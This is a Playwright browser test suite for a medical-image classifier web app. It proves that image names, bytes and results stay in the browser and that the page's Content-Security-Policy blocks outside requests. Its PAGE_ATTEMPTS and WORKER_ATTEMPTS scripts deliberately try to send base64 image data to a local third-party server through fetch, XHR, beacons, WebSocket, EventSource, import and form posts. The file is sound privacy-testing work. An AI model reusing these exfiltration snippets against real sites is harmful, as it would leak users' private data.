"""Browser proof that images, file names and results never leave the page (issue #9, network).

A full clinician session runs in headless Chromium: the model comes from a local fake Zenodo,
20 real images (PNG, JPEG, DICOM, NIfTI) are checked and classified, the results are exported
as CSV and JSON, the session is ended. Every request the browser makes for the page and its
engine worker is recorded at the browser level (Playwright's context-level ``request`` event,
which includes dedicated workers; checked below with a fetch made from inside the engine worker)
and, independently, by the servers themselves. Then:

* requests go only to the site's own origin and the model host;
* no URL, header or body contains an image's file name, a 16-byte window of its bytes (raw,
  hex or base64 at any alignment) or a probability the page showed;
* the Content-Security-Policy refuses a deliberate attempt to send data to a third origin
  (a local recording server on another port) from the page (fetch, XHR, image beacon,
  navigator.sendBeacon, WebSocket, EventSource, dynamic import, form submission) and from
  inside the engine worker (fetch, sync XHR, WebSocket, EventSource, dynamic import): each
  attempt fails, the browser fires a ``securitypolicyviolation`` event and logs a CSP console
  error for it, and the third server receives nothing.

The helpers here (real_images, needles_for, RecordingServer, privacy_site) are reused by
test_privacy_storage.py. See docs/robustness.md ("Privacy in the browser") for what is proved and
what is not.
"""

from __future__ import annotations

import base64
import binascii
import functools
import http.server
import json
import os
import re
import sys
import threading
import urllib.parse
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.browser.test_workflow import TIMEOUT, wait
from tests.browser.test_zenodo_download import FILE_KEY, repacked_demo
from tests.zenodo.fake_zenodo import FakeZenodo

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parents[2]
RECORD = 5151
WINDOW = 16  # bytes per searched window of an image
WINDOWS_PER_IMAGE = 4


# ---------------------------------------------------------------------------- the 20 images
def real_images() -> list[Path]:
    """20 real images the repo already ships or its tests already read: the demo samples (CT,
    MR and two DICOMs, ultrasound, fundus, histology, microscopy, photos), the hostile corpus's
    good seeds (scikit-image photos, nibabel NIfTI volumes), the Zenodo CLI test PNGs, the
    Grad-CAM fixture image and one pydicom test file (big-endian MR)."""
    samples = REPO / "static" / "demo" / "samples"
    seeds = REPO / "tests" / "hostile" / "corpus" / "good"
    images = sorted(p for p in samples.iterdir() if p.name != "corrupt.png")
    images += [seeds / n for n in ("camera.png", "chelsea.png", "retina.jpg", "resampled_anat_moved.nii", "standard.nii.gz")]
    images += sorted((REPO / "tests" / "zenodo" / "data" / "cli_png").glob("*.png"))
    images.append(REPO / "tests" / "fixtures" / "gradcam" / "ui_unet" / "image.png")
    pydicom = pytest.importorskip("pydicom", reason="pydicom's shipped test files give the 20th (DICOM) image")
    images.append(Path(pydicom.__file__).parent / "data" / "test_files" / "MR_small_bigendian.dcm")
    missing = [str(p) for p in images if not p.is_file()]
    assert not missing, f"test images missing: {missing}"
    assert len(images) == 20 and len({p.name for p in images}) == 20, [p.name for p in images]
    return images


def _distinctive_windows(data: bytes, others: list[bytes]) -> list[int]:
    """Offsets of WINDOWS_PER_IMAGE 16-byte windows spread over the file (past its header) that
    occur in no other test image, so a hit can only mean this image's bytes."""
    offsets = []
    start = min(len(data) // 4, 512)
    candidates = [start + i * (len(data) - start - WINDOW) // WINDOWS_PER_IMAGE for i in range(WINDOWS_PER_IMAGE * 4)]
    for offset in candidates:
        window = data[offset:offset + WINDOW]
        if len(set(window)) >= 4 and data.count(window) == 1 and not any(window in other for other in others):
            offsets.append(offset)
        if len(offsets) == WINDOWS_PER_IMAGE:
            break
    assert offsets, "no distinctive window found"
    return offsets


def needles_for(images: list[Path]) -> dict[str, bytes]:
    """What must never appear in a request: ``{description: bytes}``. Per image: its file name
    (plain and percent-encoded; its stem when not an ordinary word) and 4 distinctive 16-byte windows of its bytes, raw, as hex and as
    base64 (three alignments, so any base64 encoding of the file or of a slice of it contains one)."""
    datas = {p.name: p.read_bytes() for p in images}
    needles: dict[str, bytes] = {}
    for name, data in datas.items():
        stem = name.split(".")[0]
        needles[f"file name {name}"] = name.encode()
        if "_" in stem:  # "image", "camera", "standard" alone are ordinary words (Accept: image/...)
            needles[f"file stem {stem}"] = stem.encode()
        needles[f"quoted file name {name}"] = urllib.parse.quote(name).encode()
        others = [d for n, d in datas.items() if n != name]
        for offset in _distinctive_windows(data, others):
            window = data[offset:offset + WINDOW]
            needles[f"{name} bytes @{offset}"] = window
            needles[f"{name} hex @{offset}"] = binascii.hexlify(window)
            for shift in range(3):
                # base64 of data[a:] for a = offset - shift, aligned to 3 bytes: the 16 characters
                # that encode the 12 bytes after the first whole group
                a = max(0, offset - shift)
                encoded = base64.b64encode(data[a:a + 3 + 15])
                needles[f"{name} base64 @{a}"] = encoded[4:20]
                needles[f"{name} base64url @{a}"] = base64.urlsafe_b64encode(data[a:a + 3 + 15])[4:20]
    return needles


def result_needles(shown: dict[str, list[float]], percents: list[str]) -> dict[str, bytes]:
    """Probabilities the page showed: their JSON text (repr) and the distinctive percent cells."""
    needles = {}
    for name, probabilities in shown.items():
        for index, p in enumerate(probabilities):
            text = repr(float(p))
            if len(text) >= 8:  # e.g. 0.01234567: distinctive; "0.0" is not
                needles[f"probability {name}[{index}]"] = text.encode()
    for cell in percents:
        value = cell.replace("%", "").strip()
        if re.fullmatch(r"\d+\.\d", value) and 1.0 <= float(value) <= 99.0:
            needles[f"percent cell {cell}"] = cell.encode()
    return needles


def search_haystacks(haystacks: list[tuple[str, bytes]], needles: dict[str, bytes]) -> list[str]:
    """Every (haystack description, needle description) that matches, case-insensitively for
    text needles; haystacks are also searched after percent-decoding."""
    hits = []
    for where, raw in haystacks:
        # percent-decoding stays in bytes (unquote_to_bytes): a str round trip would decode the
        # escapes as UTF-8 and turn binary bytes into U+FFFD; the form-encoding variant reads '+' as space
        variants = [raw, urllib.parse.unquote_to_bytes(raw), urllib.parse.unquote_to_bytes(raw.replace(b"+", b" "))]
        for what, needle in needles.items():
            if any(needle in v for v in variants) or (needle.isascii() and any(needle.lower() in v.lower() for v in variants)):
                hits.append(f"{what} in {where}")
    return hits


# ---------------------------------------------------------------------------- recording servers
@dataclass
class Received:
    method: str
    path: str
    headers: dict
    body: bytes


class RecordingServer:
    """A local HTTP server that records every request (method, path, headers, body) and, with
    ``directory``, serves that folder like build.py's static server; without, it answers 200
    with CORS open to everyone, so that only the page's CSP can stop a browser reaching it."""

    def __init__(self, directory: Path | None = None):
        import build

        self.received: list[Received] = []
        recorder = self

        base = build.StaticHandler if directory is not None else http.server.BaseHTTPRequestHandler

        class Handler(base):
            protocol_version = "HTTP/1.0"

            def _record(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                recorder.received.append(Received(self.command, self.path, dict(self.headers.items()), body))

            def _answer(self):
                self._record()
                if directory is not None and self.command in ("GET", "HEAD"):
                    return base.do_GET(self) if self.command == "GET" else base.do_HEAD(self)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _answer

            def log_message(self, format, *args):  # noqa: A002 - base-class signature
                pass

        handler = functools.partial(Handler, directory=str(directory)) if directory is not None else Handler
        class Server(http.server.ThreadingHTTPServer):
            def handle_error(self, request, client_address):
                # a browser closed while a file was being sent: not a finding, no traceback
                if not isinstance(sys.exc_info()[1], (ConnectionResetError, BrokenPipeError)):
                    super().handle_error(request, client_address)

        self._server = Server(("127.0.0.1", 0), handler)
        self._server.daemon_threads = True
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"

    def close(self):
        self._server.shutdown()
        self._server.server_close()


@dataclass
class PrivacySite:
    origin: str
    dist: Path
    site_server: RecordingServer
    zenodo: FakeZenodo
    elsewhere: RecordingServer
    model: bytes  # the zip the fake Zenodo serves

    @property
    def model_md5(self) -> str:
        import hashlib

        return hashlib.md5(self.model).hexdigest()

    @property
    def model_size(self) -> int:
        return len(self.model)

    @property
    def url(self) -> str:
        return f"{self.origin}/index.html?zenodo={self.zenodo.url}"


@pytest.fixture(scope="module")
def privacy_site(tmp_path_factory):
    """The site built with a fake Zenodo as its model host (record RECORD holds the demo model,
    repacked so its MD5 differs from the built-in copy), served by a recording server; plus an
    "elsewhere" recording server on another port that nothing may reach."""
    import build

    with FakeZenodo() as zenodo:
        data = repacked_demo()
        zenodo.add_record(RECORD, {FILE_KEY: data}, title="Vitrine demo (privacy test)", version="1.0")
        dist = tmp_path_factory.mktemp("privacy-site") / "dist"
        dist.mkdir()
        site_server = RecordingServer(dist)
        elsewhere = RecordingServer()
        build.build(dist, model_host=zenodo.url, use_cdn=not os.environ.get("VITRINE_NO_CDN"))
        yield PrivacySite(site_server.origin, dist, site_server, zenodo, elsewhere, data)
        site_server.close()
        elsewhere.close()


# ---------------------------------------------------------------------------- a recorded page
@dataclass
class RecordedPage:
    page: object
    requests: list = field(default_factory=list)   # playwright Request objects, in order
    console: list = field(default_factory=list)    # (type, text)

    def csp_console_errors(self, since: int = 0) -> list[str]:
        return [text for kind, text in self.console[since:] if kind == "error" and "Content Security Policy" in text]


def open_recorded_page(context) -> RecordedPage:
    page = context.new_page()
    recorded = RecordedPage(page)
    context.on("request", lambda request: recorded.requests.append(request))
    page.on("console", lambda m: recorded.console.append((m.type, m.text)))
    page.on("pageerror", lambda e: recorded.console.append(("pageerror", str(e))))
    return recorded


def engine_worker(page):
    """The primary Pyodide engine worker (a blob: worker of the page's origin); the page's pool
    may run more Pyodide workers, the primary publishes ``self.vitrineWorkerName == "engine"``.
    Fails unless exactly one worker of the page is that one."""
    pyodide_workers = [w for w in page.workers if w.evaluate("() => typeof _createPyodideModule === 'function'")]
    primary = [w for w in pyodide_workers if w.evaluate("() => self.vitrineWorkerName || null") == "engine"]
    assert len(primary) == 1, [w.url for w in page.workers]
    return primary[0]


def run_session(page, site: PrivacySite, images: list[Path], before_end=None, cache_opt_in: bool = False) -> dict:
    """A full session: model from (fake) Zenodo (kept in the Cache API only with
    ``cache_opt_in``), the images checked and classified, CSV + JSON export, ``before_end()``
    if given, End session. Returns what the page showed: {"shown": {file: probs}, "percents":
    [table cells], "exports": {button: text}}."""
    page.set_viewport_size({"width": 1366, "height": 900})
    page.goto(site.url)
    wait(page, "body[data-engine-state='ready']")
    wait(page, "body[data-model-state='ready']")
    page.set_checked("#cache-opt-in", cache_opt_in)
    page.fill("#model-reference", f"10.5281/zenodo.{RECORD}")
    page.click("#model-fetch")
    wait(page, f"body[data-model-state='ready'][data-model-md5='{site.model_md5}']")
    page.set_input_files("#image-files", [str(p) for p in images])
    wait(page, "body[data-images-checking='0']")
    errors = {li.get_attribute("data-image"): li.inner_text() for li in page.query_selector_all("#image-list li[data-status='error']")}
    assert not errors, f"images the page refused: {errors}"
    assert page.get_attribute("body", "data-images-ready") == str(len(images))
    page.click("#predict")
    wait(page, "body[data-run-state='done'][data-runs='1']")
    shown = {}
    for row in page.query_selector_all("#results-table tbody tr"):
        probabilities = row.get_attribute("data-probs")
        assert probabilities, f"{row.get_attribute('data-file')}: {row.get_attribute('data-error')}"
        shown[row.get_attribute("data-file")] = json.loads(probabilities)
    assert set(shown) == {p.name for p in images}
    percents = [td.inner_text() for td in page.query_selector_all("#results-table tbody td.num")]
    exports = {}
    for button in ("#export-csv", "#export-json"):
        with page.expect_download() as info:
            page.click(button)
        exports[button] = Path(info.value.path()).read_text(encoding="utf-8")
    for name in shown:  # the exports hold the results (so the needles are the right ones)
        assert all(name in text for text in exports.values()), name
    if before_end is not None:
        before_end()
    page.click("#end-session")
    wait(page, "body[data-runs='0']")
    return {"shown": shown, "percents": percents, "exports": exports}


def request_haystacks(requests) -> tuple[list[tuple[str, bytes]], list[dict]]:
    """(haystacks to search, one summary per request) from Playwright Request objects."""
    haystacks, summaries = [], []
    for request in requests:
        try:
            headers = request.all_headers()
        except Exception:  # noqa: BLE001 - a request whose worker/page is gone: provisional headers
            headers = request.headers
        body = request.post_data_buffer or b""
        label = f"{request.method} {request.url[:120]}"
        haystacks.append((f"URL of {label}", request.url.encode()))
        haystacks.append((f"headers of {label}", json.dumps(headers).encode()))
        if body:
            haystacks.append((f"body of {label}", body))
        summaries.append({"method": request.method, "url": request.url, "body_bytes": len(body)})
    return haystacks, summaries


class WorkerCDP:
    """DevTools-protocol access to a page's dedicated workers. Playwright opens CDP sessions for
    pages only, so this auto-attaches to the page's workers *without* flattening and talks to
    each through ``Target.sendMessageToTarget``; replies and events (e.g. ``Log.entryAdded``)
    come back as ``Target.receivedMessageFromTarget``. Worker console/CSP log entries are not
    reported by Playwright's page ``console`` event, so this is how they are seen."""

    def __init__(self, context, page):
        self.page = page
        self.cdp = context.new_cdp_session(page)
        self.workers: dict[str, str] = {}      # session id -> worker URL
        self.events: list[tuple[str, dict]] = []
        self._replies: dict[int, dict] = {}
        self._next_id = 0
        self.cdp.on("Target.attachedToTarget", self._attached)
        self.cdp.on("Target.detachedFromTarget", lambda e: self.workers.pop(e["sessionId"], None))
        self.cdp.on("Target.receivedMessageFromTarget", self._received)
        self.cdp.send("Target.setAutoAttach", {"autoAttach": True, "waitForDebuggerOnStart": False, "flatten": False})
        self.page.wait_for_timeout(200)

    def _attached(self, event):
        if event["targetInfo"]["type"] == "worker":
            self.workers[event["sessionId"]] = event["targetInfo"]["url"]

    def _received(self, event):
        message = json.loads(event["message"])
        if "id" in message:
            self._replies[message["id"]] = message
        else:
            self.events.append((event["sessionId"], message))

    def session_of(self, worker_url: str) -> str:
        for _ in range(100):
            for session_id, url in self.workers.items():
                if url == worker_url:
                    return session_id
            self.page.wait_for_timeout(50)
        raise AssertionError(f"no CDP session for worker {worker_url}; attached: {self.workers}")

    def send(self, session_id: str, method: str, params: dict | None = None, timeout_ms: int = 30_000) -> dict:
        self._next_id += 1
        message_id = self._next_id
        self.cdp.send("Target.sendMessageToTarget", {"sessionId": session_id, "message": json.dumps(
            {"id": message_id, "method": method, "params": params or {}})})
        for _ in range(timeout_ms // 20):
            if message_id in self._replies:
                reply = self._replies.pop(message_id)
                assert "error" not in reply, f"{method} on worker: {reply['error']}"
                return reply["result"]
            self.page.wait_for_timeout(20)
        raise AssertionError(f"{method} on worker {self.workers.get(session_id)}: no reply within {timeout_ms} ms")

    def log_texts(self, session_id: str, since: int = 0) -> list[str]:
        return [m["params"]["entry"]["text"] for sid, m in self.events[since:]
                if sid == session_id and m.get("method") == "Log.entryAdded"]


def origin_of(url: str) -> str:
    parts = urllib.parse.urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}" if parts.netloc else f"{parts.scheme}:"


# ---------------------------------------------------------------------------- tests
@pytest.fixture(scope="module")
def recorded_context(browser):
    context = browser.new_context(accept_downloads=True)
    yield context
    context.close()


def test_a_full_session_sends_nothing_about_the_images_anywhere(recorded_context, privacy_site):
    images = real_images()
    needles = needles_for(images)
    recorded = open_recorded_page(recorded_context)
    page = recorded.page
    session = run_session(page, privacy_site, images)

    # the recorder sees worker requests: the model file was fetched by the engine worker (the
    # page never fetches it), and one more fetch made from inside the worker shows up too
    worker = engine_worker(page)
    marker = f"{privacy_site.origin}/index.html?worker-probe=1"
    assert worker.evaluate("async (url) => (await fetch(url)).status", marker) == 200
    page.wait_for_timeout(300)
    urls = [r.url for r in recorded.requests]
    assert marker in urls
    model_download = f"/records/{RECORD}/files/{FILE_KEY}/content"
    assert any(model_download in u for u in urls), urls

    allowed = {privacy_site.origin, privacy_site.zenodo.url}
    local = {"data:", "blob:"}  # not network requests: in-page data and object URLs
    by_origin: dict[str, int] = {}
    for url in urls:
        by_origin[origin_of(url)] = by_origin.get(origin_of(url), 0) + 1
    print(f"\nrequests recorded: {len(urls)}; by origin: {json.dumps(by_origin)}; "
          f"allowed: {sorted(allowed)}")
    assert set(by_origin) <= allowed | local, by_origin

    haystacks, summaries = request_haystacks(recorded.requests)
    all_needles = {**needles, **result_needles(session["shown"], session["percents"])}
    print(f"searched {len(haystacks)} URLs/headers/bodies for {len(all_needles)} needles "
          f"({len(images)} file names, byte windows, {len(all_needles) - len(needles)} result strings)")
    hits = search_haystacks(haystacks, all_needles)
    assert not hits, hits
    bodies = [s for s in summaries if s["body_bytes"]]
    assert not bodies, f"requests with a body: {bodies}"

    # what the servers themselves received agrees: GETs for site files and the model, no bodies
    site_paths = {r.path.split("?")[0] for r in privacy_site.site_server.received}
    assert {r.method for r in privacy_site.site_server.received} <= {"GET", "HEAD"}
    assert not any(r.body for r in privacy_site.site_server.received)
    assert site_paths <= {"/", "/index.html"} | {"/" + f for f in json.loads((privacy_site.dist / "build-manifest.json").read_text())["files"]}, site_paths
    assert {r.method for r in privacy_site.zenodo.requests} <= {"GET", "HEAD", "OPTIONS"}
    server_side = [(f"site server {r.method} {r.path}", r.path.encode() + json.dumps(r.headers).encode())
                   for r in privacy_site.site_server.received]
    server_side += [(f"fake Zenodo {r.method} {r.path}", r.path.encode() + json.dumps(r.headers).encode())
                    for r in privacy_site.zenodo.requests]
    assert not search_haystacks(server_side, all_needles)
    assert privacy_site.elsewhere.received == []
    # and the browser-level record misses nothing the servers saw (CORS preflights are not
    # reported as requests by the browser)
    seen = {(r.method, urllib.parse.urlsplit(r.url).path + ("?" + urllib.parse.urlsplit(r.url).query if urllib.parse.urlsplit(r.url).query else ""))
            for r in recorded.requests}
    served = {(r.method, r.path) for r in privacy_site.site_server.received}
    served |= {(r.method, r.path) for r in privacy_site.zenodo.requests if r.method != "OPTIONS"}
    assert served <= seen, served - seen
    unexpected = [c for c in recorded.console if c[0] in ("error", "pageerror")]
    assert not unexpected, unexpected
    page.close()


PAGE_ATTEMPTS = """async ([other, secret]) => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', e => violations.push([e.effectiveDirective, e.blockedURI]));
  const out = {};
  const q = '?stolen=' + encodeURIComponent(secret);
  try { await fetch(other + '/fetch' + q, {method: 'POST', body: secret, mode: 'no-cors'}); out.fetch = 'sent'; }
  catch (e) { out.fetch = 'refused ' + e.name; }
  try { const x = new XMLHttpRequest(); x.open('POST', other + '/xhr' + q); x.send(secret);
        out.xhr = await new Promise(r => { x.onload = () => r('sent'); x.onerror = () => r('refused error'); }); }
  catch (e) { out.xhr = 'refused ' + e.name; }
  out.image = await new Promise(r => { const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('refused error'); i.src = other + '/image' + q; });
  out.sendBeacon = navigator.sendBeacon(other + '/beacon' + q, secret) ? 'queued' : 'refused false';
  out.websocket = await new Promise(r => { try { const s = new WebSocket(other.replace('http', 'ws') + '/ws' + q);
      s.onopen = () => { s.send(secret); r('sent'); }; s.onerror = () => r('refused error'); } catch (e) { r('refused ' + e.name); } });
  out.eventsource = await new Promise(r => { try { const s = new EventSource(other + '/events' + q);
      s.onopen = () => r('sent'); s.onerror = () => { s.close(); r('refused error'); }; } catch (e) { r('refused ' + e.name); } });
  try { await import(other + '/module.js' + q); out.import = 'sent'; } catch (e) { out.import = 'refused ' + e.name; }
  const form = document.createElement('form'); form.method = 'POST'; form.action = other + '/form' + q; form.target = '_blank';
  const field = document.createElement('input'); field.name = 'stolen'; field.value = secret; form.append(field);
  document.body.append(form); form.submit(); form.remove(); out.form = 'submitted (see violations)';
  await new Promise(r => setTimeout(r, 1000));
  out.violations = violations;
  return out;
}"""

WORKER_ATTEMPTS = """async ([other, secret]) => {
  const violations = [];
  self.addEventListener('securitypolicyviolation', e => violations.push([e.effectiveDirective, e.blockedURI]));
  const out = {};
  const q = '?stolen=' + encodeURIComponent(secret);
  try { await fetch(other + '/fetch' + q, {method: 'POST', body: secret, mode: 'no-cors'}); out.fetch = 'sent'; }
  catch (e) { out.fetch = 'refused ' + e.name; }
  try { const x = new XMLHttpRequest(); x.open('POST', other + '/xhr' + q, false); x.send(secret); out.xhr = 'sent ' + x.status; }
  catch (e) { out.xhr = 'refused ' + e.name; }
  out.websocket = await new Promise(r => { try { const s = new WebSocket(other.replace('http', 'ws') + '/ws' + q);
      s.onopen = () => { s.send(secret); r('sent'); }; s.onerror = () => r('refused error'); } catch (e) { r('refused ' + e.name); } });
  out.eventsource = await new Promise(r => { try { const s = new EventSource(other + '/events' + q);
      s.onopen = () => r('sent'); s.onerror = () => { s.close(); r('refused error'); }; } catch (e) { r('refused ' + e.name); } });
  try { await import(other + '/module.js' + q); out.import = 'sent'; } catch (e) { out.import = 'refused ' + e.name; }
  await new Promise(r => setTimeout(r, 1000));
  out.violations = violations;
  return out;
}"""

# what each attempt must report and the CSP directive that must refuse it
PAGE_EXPECTED = {"fetch": "connect-src", "xhr": "connect-src", "image": "img-src", "sendBeacon": "connect-src",
                 "websocket": "connect-src", "eventsource": "connect-src", "import": "script-src-elem",
                 "form": "form-action"}
WORKER_EXPECTED = {"fetch": "connect-src", "xhr": "connect-src", "websocket": "connect-src",
                   "eventsource": "connect-src", "import": "script-src-elem"}
PATHS = {"fetch": "/fetch", "xhr": "/xhr", "image": "/image", "sendBeacon": "/beacon", "websocket": "/ws",
         "eventsource": "/events", "import": "/module.js", "form": "/form"}


def _check_refused(where, outcome, expected, other, site, console_errors):
    """Each attempt failed, fired a securitypolicyviolation event for its directive, was logged
    as a CSP error by the browser (``console_errors()`` gives those texts), and the third server
    received nothing."""
    violations = outcome.pop("violations")
    print(f"\n{where}: " + json.dumps(outcome) + f"; {len(violations)} CSP violation events")
    for attempt, directive in expected.items():
        result = outcome[attempt]
        if attempt == "sendBeacon":
            # sendBeacon only queues; the CSP check happens when the beacon is sent
            assert result in ("queued", "refused false"), result
        elif attempt != "form":
            assert result.startswith("refused"), f"{where}: {attempt} was not refused: {result}"
        url_start = (other.replace("http", "ws") if attempt == "websocket" else other) + PATHS[attempt]
        assert any(d == directive and uri.startswith(url_start) for d, uri in violations), \
            f"{where}: no {directive} violation for {attempt}: {violations}"
        logged = console_errors()
        assert any(url_start in text and "Content Security Policy" in text for text in logged), \
            f"{where}: no CSP console error for {attempt}: {logged}"
    assert site.elsewhere.received == [], [(r.method, r.path) for r in site.elsewhere.received]


@pytest.fixture(scope="module")
def booted(recorded_context, privacy_site):
    recorded = open_recorded_page(recorded_context)
    recorded.page.goto(privacy_site.url)
    wait(recorded.page, "body[data-engine-state='ready']")
    wait(recorded.page, "body[data-model-state='ready']")
    return recorded


def test_elsewhere_server_is_reachable_without_the_page_policy(privacy_site):
    """Control: the third server answers when asked directly, so silence below means refusal."""
    with urllib.request.urlopen(privacy_site.elsewhere.origin + "/control", timeout=10) as response:
        assert response.read() == b"ok"
    assert [r.path for r in privacy_site.elsewhere.received] == ["/control"]
    privacy_site.elsewhere.received.clear()


def test_csp_refuses_exfiltration_from_the_page(booted, privacy_site):
    page = booted.page
    secret = base64.b64encode((REPO / "static" / "demo" / "samples" / "ct_head.png").read_bytes()[:600]).decode()
    console_from = len(booted.console)
    # the same calls to the allowed origins work (so a refusal below is the policy, not the code)
    allowed = page.evaluate("async (url) => (await fetch(url)).status", privacy_site.zenodo.url + f"/api/records/{RECORD}")
    assert allowed == 200
    outcome = page.evaluate(PAGE_ATTEMPTS, [privacy_site.elsewhere.origin, secret])
    page.wait_for_timeout(500)  # console events arrive asynchronously
    _check_refused("page", outcome, PAGE_EXPECTED, privacy_site.elsewhere.origin, privacy_site,
                   lambda: booted.csp_console_errors(console_from))


def test_csp_refuses_exfiltration_from_inside_the_engine_worker(booted, privacy_site, recorded_context):
    page = booted.page
    worker = engine_worker(page)
    devtools = WorkerCDP(recorded_context, page)
    session_id = devtools.session_of(worker.url)
    devtools.send(session_id, "Log.enable")
    log_from = len(devtools.events)
    # really the engine: a blob: worker of the page's origin running Pyodide, and the engine
    # still answers the page's calls after the attempts
    assert worker.url.startswith(f"blob:{privacy_site.origin}/")
    assert worker.evaluate("() => self.location.protocol") == "blob:"
    secret = base64.b64encode((REPO / "static" / "demo" / "samples" / "ct_small.dcm").read_bytes()[:600]).decode()
    allowed = worker.evaluate("async (url) => (await fetch(url)).status", privacy_site.zenodo.url + f"/api/records/{RECORD}")
    assert allowed == 200
    outcome = worker.evaluate(WORKER_ATTEMPTS, [privacy_site.elsewhere.origin, secret])
    page.wait_for_timeout(500)  # log events arrive asynchronously
    _check_refused("engine worker", outcome, WORKER_EXPECTED, privacy_site.elsewhere.origin, privacy_site,
                   lambda: devtools.log_texts(session_id, log_from))
    reply = json.loads(page.evaluate("() => window.vitrineEngine.call(JSON.stringify({call: 'ping', id: 'after'}), null)"))
    assert reply["ok"], reply
